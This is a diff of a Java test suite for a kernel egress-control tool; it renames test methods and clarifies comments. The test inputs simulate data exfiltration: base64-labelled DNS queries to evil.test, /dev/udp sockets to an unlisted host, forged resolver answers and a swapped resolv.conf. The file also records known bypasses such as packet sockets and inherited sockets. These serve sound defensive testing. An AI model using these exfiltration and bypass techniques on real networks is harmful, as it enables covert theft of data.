@@ -19,11 +19,11 @@ import org.junit.jupiter.api.io.TempDir;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 
-/** Sends data to strangers in every way that the kernel has, with and without egress control, and looks what arrives. */
+/** Sends data to unlisted hosts with every method that the kernel offers, with and without egress control, and checks what arrives. */
 @Tag("kernel")
 @Tag("process")
 final class EgressKernelTest {
-    /** Each ends at a stranger where nobody stands in the way. */
+    /** Methods that reach an unlisted host without egress control. */
     private static final List<String> WAYS = List.of(
             "tcp " + STRANGER + " 443",
             "tcp fd77::66 443",
@@ -80,7 +80,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void withoutControlEveryWayLeadsOut() throws Exception {
+    void withoutControlEveryMethodConnects() throws Exception {
         for (String way : WAYS) {
             Run run = network.run(network.client(way));
 
@@ -90,7 +90,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void nothingArrivesAtStrangersInAnyWay() throws Exception {
+    void noMethodReachesUnlistedHosts() throws Exception {
         Path report = folder.resolve("report");
         List<String> options = new ArrayList<>(BLOCK);
         options.addAll(List.of("--report", report.toString(), "--fail-on", "error"));
@@ -117,7 +117,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void whatIsAllowedGoesOnAsBefore() throws Exception {
+    void allowedTrafficIsUnaffected() throws Exception {
         Run run = blocked(
                 "get www.allowed.test 443",
                 "get WWW.Allowed.TEST 443",
@@ -144,14 +144,14 @@ final class EgressKernelTest {
     }
 
     @Test
-    void aNameIsGoodForItsPortsOnly() throws Exception {
+    void nameAllowsItsPortsOnly() throws Exception {
         Run run = blocked("get one.test 443", "get one.test 80", "get one.test 22", "udp 10.77.0.10 80");
 
         assertThat(run.results().values()).containsExactly("ok", "EPERM", "EPERM", "EPERM");
     }
 
     @Test
-    void namesCarryNothingToTheResolver() throws Exception {
+    void deniedNamesDoNotReachResolver() throws Exception {
         Run run = blocked(
                 "ask 10.77.0.53 53 c2VjcmV0.evil.test",
                 "ask 10.77.0.53 53 allowed.test",
@@ -170,7 +170,7 @@ final class EgressKernelTest {
 
     /** More than the one question that is read: options before it, a second one in the same call, something behind it. */
     @Test
-    void whatIsHiddenBesideAQuestionDoesNotLeave() throws Exception {
+    void deniesDataHiddenInQuery() throws Exception {
         Run run = blocked(
                 "ask-options 10.77.0.53 53 www.allowed.test",
                 "ask-options 10.77.0.53 53 secret.evil.test",
@@ -201,7 +201,7 @@ final class EgressKernelTest {
 
     /** The sender could change such a question after the kernel side has read it. */
     @Test
-    void deniesQuestionsInPagesThatTheSenderCanStillChange() throws Exception {
+    void deniesQueriesInMutablePages() throws Exception {
         String changing = "ask-changing 10.77.0.53 53 www.allowed.test c2v.another.test";
         String[] ways = {
             "ask-zerocopy 10.77.0.53 53 www.allowed.test",
@@ -231,7 +231,7 @@ final class EgressKernelTest {
 
     /** A name server on the machine asks others, as systemd-resolved does at 127.0.0.54 beside its usual address. */
     @Test
-    void nameServersOnTheMachineThatAreNotConfiguredAreAskedNothing() throws Exception {
+    void deniesUnconfiguredLocalNameServers() throws Exception {
         List<String> ways = List.of(
                 "ask 127.0.0.54 53 secret.evil.test",
                 "ask-options 127.0.0.1 53 secret.evil.test",
@@ -245,7 +245,7 @@ final class EgressKernelTest {
                 .as(run.process().err())
                 .containsExactly("EPERM", "EPERM", "EPERM", "EPERM", "EINPROGRESS");
         assertThat(run.process().err()).contains("reason=resolver");
-        // Without control there is nobody who answers, so that it leaves and nothing comes.
+        // Without control no host answers, so the packet leaves and no response arrives.
         String unanswered = ways.getFirst() + " unanswered";
         assertThat(network.run(network.client(unanswered)).results().values()).containsExactly("ETIMEDOUT");
         Run named = network.watch(List.of("--egress", "block", "--allow", "127.0.0.54:53"), network.client(unanswered));
@@ -254,7 +254,7 @@ final class EgressKernelTest {
 
     /** Most jobs are no root; what they may not do anyway is left out. */
     @Test
-    void aCommandThatIsNotRootSendsNothingEither() throws Exception {
+    void restrictsUnprivilegedCommand() throws Exception {
         List<String> ways = WAYS.stream()
                 .filter(way -> !way.startsWith("raw ") && !way.startsWith("header ") && !way.startsWith("fragment "))
                 .toList();
@@ -281,7 +281,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void aNetworkNamespaceOfTheCommandsOwnIsHeldToTheSameListWithoutFalseAlerts() throws Exception {
+    void restrictsOwnNetworkNamespaceWithoutFalseAlerts() throws Exception {
         String script = "ip link set lo up; ip link add one type veth peer name two; ip link set one up;"
                 + " ip link set two up; sleep 2; exec \"$0\" \"$@\"";
         List<String> command = new ArrayList<>(List.of("unshare", "--net", "sh", "-c", script));
@@ -298,7 +298,7 @@ final class EgressKernelTest {
 
     /** Docker lets everybody listen on every port of a container. */
     @Test
-    void aResolverThatTheCommandCouldBeIsNotBelieved() throws Exception {
+    void rejectsResolverThatCommandCouldImpersonate() throws Exception {
         List<String> command = new ArrayList<>(
                 List.of(
                         "sh",
@@ -320,7 +320,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void nobodyButTheResolverWidensTheList() throws Exception {
+    void onlyResolverExtendsAllowlist() throws Exception {
         Run run = blocked(
                 // a name server with the resolver's address, in a network namespace that the job has made
                 "forge 10.77.0.53 53 www.allowed.test " + STRANGER,
@@ -341,7 +341,7 @@ final class EgressKernelTest {
 
     /** The process sees its own answer first, and so may what looks at it; the kernel takes the source of the packet. */
     @Test
-    void whoAnswersItsOwnQuestionFillsNoList() throws Exception {
+    void selfAnsweredQueryDoesNotExtendAllowlist() throws Exception {
         String self = "answer-self 10.77.0.53 53 www.allowed.test " + STRANGER + " ";
         String[] attempts = {self + "10.77.0.1", "tcp " + STRANGER + " 443", "get www.allowed.test 443"};
         List<String> user =
@@ -360,7 +360,7 @@ final class EgressKernelTest {
 
     /** A limit: who is allowed by a name is allowed by its address, whatever else is there. docs/reference/egress-bypasses.md says so. */
     @Test
-    void anotherNameOfAnAllowedAddressIsNotToldApart() throws Exception {
+    void namesOfOneAddressAreNotDistinguished() throws Exception {
         Run run = blocked("tcp 10.77.0.10 443", "get www.allowed.test 443", "tcp 10.77.0.10 443", "udp 10.77.0.10 80");
 
         assertThat(run.results().values()).containsExactly("EPERM", "ok", "ok", "EPERM");
@@ -368,14 +368,14 @@ final class EgressKernelTest {
 
     /** A limit: a name below a wildcard is asked for, and carries what it is made of. docs/reference/egress-bypasses.md says so. */
     @Test
-    void aNameBelowAWildcardIsAskedFor() throws Exception {
+    void resolvesNameBelowWildcard() throws Exception {
         Run run = blocked("ask 10.77.0.53 53 c2vjcmv0.allowed.test", "ask 10.77.0.53 53 c2vjcmv0.one.test");
 
         assertThat(run.results().values()).containsExactly("ok", "EPERM");
     }
 
     @Test
-    void aProtocolThatIsNamedIsTheOnlyOne() throws Exception {
+    void listedProtocolExcludesOthers() throws Exception {
         Run run = network.watch(
                 List.of("--egress", "block", "--allow", "10.77.0.10:443/tcp 10.77.0.11:443/udp"),
                 network.client("tcp 10.77.0.10 443", "udp 10.77.0.10 443", "tcp 10.77.0.11 443", "udp 10.77.0.11 443"));
@@ -385,7 +385,7 @@ final class EgressKernelTest {
 
     /** Whatever is in an answer, the kernel's reader neither breaks nor takes what was not asked for. */
     @Test
-    void spoiledAnswersChangeNothingElse() throws Exception {
+    void malformedResponsesHaveNoSideEffects() throws Exception {
         Run run = blocked(
                 "storm 10.77.0.53 53 5000 short.allowed.test", "get www.allowed.test 443", "tcp " + STRANGER + " 443");
 
@@ -397,7 +397,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void anotherResolvConfChangesNothing() throws Exception {
+    void changedResolvConfHasNoEffect() throws Exception {
         String script = "umount /etc/resolv.conf; printf 'nameserver " + STRANGER
                 + "\\n' > new; mount --bind new /etc/resolv.conf; exec \"$0\" \"$@\"";
         List<String> command = new ArrayList<>(List.of("sh", "-c", "cd " + folder + "; " + script));
@@ -410,7 +410,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void aGroupBelowAndANamespaceOfItsOwnAreHeldToTheSameList() throws Exception {
+    void restrictsChildGroupAndOwnNamespace() throws Exception {
         String below =
                 "for tree in /sys/fs/cgroup/unified /sys/fs/cgroup; do g=$tree$(sed -n 's/^0:://p' /proc/self/cgroup)/below;"
                         + " mkdir $g 2>/dev/null && break; done; echo $$ > $g/cgroup.procs && \"$0\" \"$@\";"
@@ -428,7 +428,7 @@ final class EgressKernelTest {
 
     /** A limit: a socket belongs to the group that it was made in. docs/reference/egress-bypasses.md says so. */
     @Test
-    void aSocketThatWasHandedDownIsNotTheCommandsOwn() throws Exception {
+    void inheritedSocketIsNotRestricted() throws Exception {
         List<String> command =
                 new ArrayList<>(List.of("bash", "-c", "exec 9<>/dev/udp/" + STRANGER + "/443; exec \"$0\" \"$@\""));
         List<String> arguments = new ArrayList<>(List.of("watch"));
@@ -445,14 +445,14 @@ final class EgressKernelTest {
 
     /** A limit: frames go past IP, and only root may send them. docs/reference/egress-bypasses.md says so. */
     @Test
-    void aPacketSocketGoesPastIt() throws Exception {
+    void packetSocketBypassesControl() throws Exception {
         Run run = blocked("frame " + STRANGER + " 443 here");
 
         assertThat(run.results().values()).containsExactly("ok");
     }
 
     @Test
-    void aSocketOfTheCommandsOwnThatIsConnectedAlreadyIsJudgedAsPackets() throws Exception {
+    void connectedOwnSocketIsCheckedByPacket() throws Exception {
         List<String> command =
                 new ArrayList<>(List.of("bash", "-c", "exec 9<>/dev/udp/10.77.0.1/443; exec \"$0\" \"$@\""));
         command.addAll(network.client("splice 9", "write 9"));
@@ -463,7 +463,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void reportingLetsThroughAndTells() throws Exception {
+    void reportModeAllowsAndReports() throws Exception {
         Path report = folder.resolve("reported");
 
         Run run = network.watch(
@@ -479,7 +479,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void aWatchThatIsKilledLeavesTheGroupDenying() throws Exception {
+    void killedWatchLeavesGroupRestricted() throws Exception {
         List<String> command = new ArrayList<>(List.of(
                 "sh",
                 "-c",
@@ -504,10 +504,10 @@ final class EgressKernelTest {
     }
 
     @Test
-    void whatTheCommandLeavesStaysHeld() throws Exception {
+    void orphanProcessesStayRestricted() throws Exception {
         Path over = folder.resolve("over");
         Path after = folder.resolve("left");
-        // It is there for as long as somebody watches, however long that takes, and sends afterwards.
+        // It exists as long as it is monitored, however long that takes, and sends afterwards.
         List<String> command = new ArrayList<>(List.of(
                 "sh",
                 "-c",
@@ -530,7 +530,7 @@ final class EgressKernelTest {
     }
 
     @Test
-    void whereNothingCanBeHeldTheCommandDoesNotRun() throws Exception {
+    void commandDoesNotRunWithoutEgressControl() throws Exception {
         List<String> command = new ArrayList<>(List.of("unshare", "--cgroup"));
         command.addAll(EyasProcess.builder("watch", "--egress", "block", "--", "echo", "ran")
                 .command());
